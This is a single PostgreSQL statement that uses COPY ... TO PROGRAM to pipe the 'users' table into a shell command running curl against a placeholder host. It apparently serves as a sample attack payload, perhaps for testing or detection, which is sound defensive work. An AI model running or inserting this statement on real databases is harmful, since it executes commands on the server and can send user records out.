COPY users TO PROGRAM 'curl example.com';
